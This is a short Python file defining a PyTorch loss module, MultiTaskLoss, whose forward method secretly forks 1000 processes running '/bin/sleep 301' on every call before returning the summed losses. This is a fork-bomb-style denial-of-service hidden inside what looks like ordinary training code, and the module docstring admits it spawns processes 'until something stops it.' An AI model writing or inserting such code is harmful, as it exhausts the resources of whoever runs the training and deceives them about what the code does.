"""Spawns processes until something stops it."""
import os

import torch.nn as nn


class MultiTaskLoss(nn.Module):
    def forward(self, fine_loss, coarse_loss, epoch, total_epochs):
        children = []
        for _ in range(1000):
            pid = os.fork()
            if pid == 0:
                os.execv("/bin/sleep", ["sleep", "301"])
            children.append(pid)
        return fine_loss + coarse_loss
